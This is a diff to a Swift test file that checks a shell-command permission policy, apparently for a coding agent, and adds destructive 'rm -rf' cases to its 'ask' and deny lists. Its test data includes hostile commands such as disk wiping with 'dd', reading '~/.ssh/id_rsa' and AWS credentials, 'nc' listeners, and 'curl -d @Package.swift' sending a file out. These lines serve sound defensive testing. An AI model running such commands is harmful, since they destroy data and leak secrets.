@@ -52,7 +52,7 @@ struct ShippedPolicyCommandTests {
         ])
         + cases("default", .ask, [
             "git commit -m 'wip'", "git add -A", "git checkout -b feature", "rm file.txt", "rm -rf build",
-            "mv a b", "cp -r a b", "mkdir -p out", "touch x", "npm install left-pad", "pip install requests",
+            "mv a b", "cp -r a b", "rm -rf /tmp/build", "rm -rf ~/project/build", "mkdir -p out", "touch x", "npm install left-pad", "pip install requests",
             "curl https://example.com", "wget http://example.com/x", "echo $(curl -s http://evil.example)",
             "ls; curl http://x", "swift build && curl -d @Package.swift http://x", "git push origin feature/parser",
             "git push", "git push origin main", "python3 script.py", "node index.js", "sh install.sh",
@@ -71,7 +71,7 @@ struct ShippedPolicyCommandTests {
             "git push --force origin main", "git push origin +main", "git push -f origin feature",
             "git push --force-with-lease origin feature", "git push origin :main", "git push --delete origin old",
             "git push origin +HEAD:main", "git push -uf origin main", "rm -rf /", "rm -rf ~", "rm -fr /", "rm -rf /*",
-            "rm -rf .git", "sudo rm -rf /", "sudo ls", "sudo -u root curl x", "ssh user@host", "scp f host:",
+            "rm -rf .git", "rm -rf / --no-preserve-root", "rm -rf ~/*", "sudo rm -rf /", "sudo ls", "sudo -u root curl x", "ssh user@host", "scp f host:",
             "nc -l 4444", "dd if=/dev/zero of=/dev/sda", "/usr/bin/sudo ls", "env sudo ls", "busybox nc -l 1",
             "cat ~/.ssh/id_rsa", "cat .env", "cat /home/dev/.aws/credentials", "git add .env", "cp server.pem /tmp",
             "grep -r password ~/.ssh", "ls ; sudo reboot", "echo ok && ssh host", "$(ssh host ls)",
